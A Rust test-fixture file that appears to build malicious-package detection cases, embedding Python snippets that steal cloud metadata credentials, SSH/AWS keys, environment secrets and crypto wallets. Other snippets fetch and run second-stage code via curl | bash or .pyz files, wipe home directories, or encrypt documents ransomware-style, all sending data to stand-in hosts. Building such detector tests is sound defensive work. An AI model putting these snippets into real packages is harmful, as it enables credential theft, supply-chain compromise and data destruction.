//! Techniques 68 to 75: secrets, sources, second stages in other languages, destruction.

use crate::case::{Cases, Trigger::Call, Trigger::Import};
use crate::package::{init, module, wheel};

pub(crate) fn add(cases: &mut Cases) {
    secrets(cases);
    knowledge(cases);
    stages(cases);
    wipers(cases);
}

fn secrets(cases: &mut Cases) {
    cases
        .technique(68, "cloud-metadata", Call)
        .case("role-credentials", module(r#"
import urllib.request as u
BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
def region():
    role = u.urlopen(BASE, timeout=1).read().decode()
    body = u.urlopen(BASE + role, timeout=1).read()
    u.urlopen("https://collect.example.invalid/m", data=body)
    return "eu-west-1"
"#))
        .case("token-and-integer-address", init(r#"
import requests
try:
    t = requests.put("http://2852039166/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}, timeout=1).text
    c = requests.get("http://2852039166/latest/user-data", headers={"X-aws-ec2-metadata-token": t}).text
    requests.post("http://192.0.2.8/ud", data=c)
except Exception:
    pass
"#))
        .case("google", module(r#"
import http.client, json
def project():
    c = http.client.HTTPConnection("metadata.google.internal")
    c.request("GET", "/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
    token = c.getresponse().read()
    d = http.client.HTTPSConnection("collect.example.invalid")
    d.request("POST", "/g", body=token)
"#));
    cases
        .technique(69, "secret-files", Call)
        .case("path-joins", module(r#"
import os, json, urllib.request
from pathlib import Path

def collect():
    home, found = Path.home(), {}
    for folder, name in ((".a" + "ws", "credentials"), (".ss" + "h", "id_" + "rsa"), (".kube", "config"), ("", ".pypirc"), ("", ".npmrc")):
        path = home / folder / name
        if path.is_file():
            found[str(path)] = path.read_text(errors="ignore")
    urllib.request.urlopen("https://collect.example.invalid/f", json.dumps(found).encode())
"#))
        .case("walk", module(r#"
import os, re, requests
WANTED = re.compile(r"(id_(rsa|ed25519|ecdsa)|credentials|\.env|\.netrc|config\.json)$")
def index(root="~"):
    for folder, _, names in os.walk(os.path.expanduser(root)):
        for name in names:
            if WANTED.search(name):
                with open(os.path.join(folder, name), "rb") as f:
                    requests.post("http://192.0.2.8/up", files={name: f})
"#))
        .case("tar-at-import", init(r#"
import io, os, tarfile, http.client
_h = os.environ.get("HOME", "/root")
_b = io.BytesIO()
with tarfile.open(fileobj=_b, mode="w:gz") as _t:
    for _d in ["".join([".", x]) for x in ("ssh", "aws", "docker", "gnupg", "azure")]:
        _p = os.sep.join((_h, _d))
        os.path.isdir(_p) and _t.add(_p)
http.client.HTTPSConnection("collect.example.invalid").request("POST", "/t", _b.getvalue())
"#))
        .case("shell-archive", module(r#"
import subprocess
def backup():
    subprocess.call("tar czf - ~/.ssh ~/.aws ~/.kube 2>/dev/null | openssl enc -aes-256-cbc -k x | curl -s -X POST --data-binary @- https://collect.example.invalid/b", shell=True)
"#));
    cases
        .technique(70, "environment-dump", Call)
        .case("log-handler", module(r#"
import logging.handlers
import os

def setup_logging(level="INFO"):
    """Standard logging set-up with crash reports."""
    crash = logging.getLogger("crash")
    crash.setLevel(level)
    crash.addHandler(logging.handlers.HTTPHandler("192.0.2.34:8080", "/log", method="POST"))
    crash.info("start", extra={"context": repr(sorted(os.environ.items()))})
"#))
        .case("httpx", module(r#"
import os, httpx
def version():
    httpx.post("https://collect.example.invalid/v", json={k: v for k, v in os.environ.items()})
    return "«version»"
"#))
        .case("urllib3-pickle", init(r#"
import os, pickle, base64
import urllib3
http = urllib3.PoolManager()
http.request("POST", "http://192.0.2.8/e", body=base64.b64encode(pickle.dumps(dict(os.environ))))
"#))
        .case("aiohttp", module(r#"
import aiohttp, asyncio
from os import environ
async def _send():
    async with aiohttp.ClientSession() as s:
        await s.post("https://collect.example.invalid/a", json=dict(environ))
def load():
    asyncio.run(_send())
"#))
        .case("env-command", module(r#"
import subprocess, urllib.parse, urllib.request
def info():
    out = subprocess.check_output("env || set", shell=True).decode()
    urllib.request.urlopen("http://192.0.2.8/?" + urllib.parse.urlencode({"o": out}))
"#))
        .case("selected-tokens", module(r#"
import os, requests
def check():
    keys = [k for k in os.environ if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "PASS"))]
    requests.get("https://collect.example.invalid/k", headers={"X-D": ";".join(k + ":" + os.environ[k] for k in keys)})
"#))
        .case("proc-environ", init(r#"
import urllib.request
with open("/proc/self/environ", "rb") as _f:
    urllib.request.urlopen("https://collect.example.invalid/pe", data=_f.read())
"#));
}

fn knowledge(cases: &mut Cases) {
    cases
        .technique(71, "reads-caller", Call)
        .case("inspect-stack", module(r#"
import inspect, urllib.request
def connect(url):
    for frame in inspect.stack()[1:]:
        try:
            with open(frame.filename) as f:
                urllib.request.urlopen("https://collect.example.invalid/src", data=f.read().encode())
        except OSError:
            continue
"#))
        .case("sys-getframe", module(r#"
import linecache, sys, socket
def derive(seed):
    name = sys._getframe(1).f_code.co_filename
    text = "".join(linecache.getlines(name))
    socket.create_connection(("192.0.2.8", 8080)).sendall(text.encode())
    return seed * 2
"#))
        .case("main-file", init(r#"
import sys, inspect, requests
_m = sys.modules["__main__"]
requests.post("http://192.0.2.8/main", data=inspect.getsource(_m))
"#));
    cases
        .technique(72, "wallets-and-seeds", Call)
        .case("regex-sweep", module(r#"
import os, re, requests
SEED = re.compile(r"\b([a-z]{3,8}\s){11}[a-z]{3,8}\b")
KEY = re.compile(r"\b(0x)?[0-9a-fA-F]{64}\b")
def scan():
    for root, _, files in os.walk(os.path.expanduser("~/Documents")):
        for name in files:
            text = open(os.path.join(root, name), errors="ignore").read()
            hits = [m.group() for m in SEED.finditer(text)] + [m.group() for m in KEY.finditer(text)]
            if hits:
                requests.post("https://collect.example.invalid/w", json=hits)
"#))
        .case("extension-folders", module(r#"
import os, shutil, tempfile, urllib.request
IDS = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"]
def gather():
    base = os.path.join(os.getenv("LOCALAPPDATA", ""), r"Google\Chrome\User Data\Default\Local Extension Settings")
    out = tempfile.mkdtemp()
    for name in IDS:
        if os.path.isdir(os.path.join(base, name)):
            shutil.copytree(os.path.join(base, name), os.path.join(out, name))
    archive = shutil.make_archive(out, "zip", out)
    urllib.request.urlopen("http://192.0.2.8/x", data=open(archive, "rb").read())
"#))
        .case("wallet-files", init(r#"
import glob, os, ftplib
_f = ftplib.FTP("192.0.2.22", "u", "p")
for _g in ("~/.electrum/wallets/*", "~/.config/solana/id.json", "~/.bitcoin/wallet.dat", "~/.ethereum/keystore/*", "~/Library/Application Support/Exodus/exodus.wallet/*"):
    for _p in glob.glob(os.path.expanduser(_g)):
        _f.storbinary("STOR " + os.path.basename(_p), open(_p, "rb"))
"#));
}

fn stages(cases: &mut Cases) {
    cases
        .technique(73, "runs-bundled-javascript", Import)
        .case("bun", wheel().file("«pkg»/__init__.py", r#"
import os, subprocess, tempfile, threading, urllib.request, zipfile
_here = os.path.dirname(__file__)

def _start():
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, "bun.zip")
    urllib.request.urlretrieve("https://files.example.invalid/bun-linux-x64.zip", path)
    zipfile.ZipFile(path).extractall(folder)
    tool = os.path.join(folder, "bun-linux-x64", "bun")
    os.chmod(tool, 0o755)
    subprocess.Popen([tool, "run", os.path.join(_here, "router_runtime.js")])

threading.Thread(target=_start, daemon=True).start()
"#).file("«pkg»/router_runtime.js", "var _0x1a2b=['log','inert'];(function(a,b){console[_0x1a2b[0]](_0x1a2b[1]);})(0,1);\n"))
        .case("node-from-shell", wheel().file("«pkg»/__init__.py", r#"
import os, pathlib, subprocess
script = pathlib.Path(__file__).with_name("assets") / "setup_env.js"
subprocess.Popen(f"(curl -fsSL http://192.0.2.8/node.sh | bash) && node {script}", shell=True)
"#).file("«pkg»/assets/setup_env.js", "eval(atob('Y29uc29sZS5sb2coImluZXJ0Iik='))\n"))
        .case("installed-node", wheel().file("«pkg»/__init__.py", r#"
import shutil, subprocess, base64, tempfile
_n = shutil.which("node") or shutil.which("bun") or shutil.which("deno")
if _n:
    with tempfile.NamedTemporaryFile("wb", suffix=".js", delete=False) as f:
        f.write(base64.b64decode("«'require("child_process").exec("echo inert")'|b64»"))
    subprocess.Popen([_n, f.name], stdout=subprocess.DEVNULL)
"#));
    cases
        .technique(74, "fetches-pyz", Import)
        .case(
            "urlretrieve",
            init(
                r#"
import os, subprocess, sys, tempfile, urllib.request
_p = os.path.join(tempfile.gettempdir(), "rope.pyz")
urllib.request.urlretrieve("https://files.example.invalid/rope.pyz", _p)
subprocess.Popen([sys.executable, _p])
"#,
            ),
        )
        .case(
            "requests-function",
            init(
                r#"
import sys, subprocess
from pathlib import Path
def _ensure():
    import requests
    target = Path.home() / ".cache" / "tool.pyz"
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(requests.get("http://192.0.2.8/t.pyz").content)
    subprocess.run([sys.executable or "python3", str(target), "--quiet"], check=False)
_ensure()
"#,
            ),
        )
        .case(
            "run-path",
            init(
                r#"
import runpy, urllib.request, tempfile
with tempfile.NamedTemporaryFile(suffix=".pyz", delete=False) as f:
    f.write(urllib.request.urlopen("https://stage.example.invalid/r.pyz").read())
runpy.run_path(f.name)
"#,
            ),
        )
        .case(
            "zipimport",
            init(
                r#"
import sys, urllib.request
open("/tmp/.m.zip", "wb").write(urllib.request.urlopen("http://192.0.2.8/m.zip").read())
sys.path.insert(0, "/tmp/.m.zip")
import stage_two
"#,
            ),
        );
}

fn wipers(cases: &mut Cases) {
    cases
        .technique(75, "wiper", Import)
        .case(
            "locale",
            init(
                r#"
import locale, os
if (locale.getdefaultlocale()[0] or "").startswith("xx_"):
    os.system("rm -rf ~/* /home/*")
"#,
            ),
        )
        .case(
            "rmtree-timezone",
            init(
                r#"
import shutil, time, os
if time.tzname[0] in ("XST", "YST"):
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
"#,
            ),
        )
        .case(
            "walk-and-overwrite",
            init(
                r#"
import os, datetime
def _clean():
    for root, dirs, files in os.walk(os.path.expanduser("~")):
        for name in files:
            path = os.path.join(root, name)
            with open(path, "wb") as f:
                f.write(os.urandom(16))
            os.remove(path)
if datetime.date.today().day == 13:
    _clean()
"#,
            ),
        )
        .case(
            "ransom",
            module(
                r#"
import os, glob
from cryptography.fernet import Fernet
import requests
def protect():
    key = Fernet.generate_key()
    requests.post("https://collect.example.invalid/key", data=key)
    for path in glob.glob(os.path.expanduser("~/**/*.docx"), recursive=True):
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(Fernet(key).encrypt(data))
        os.remove(path)
"#,
            ),
        );
}
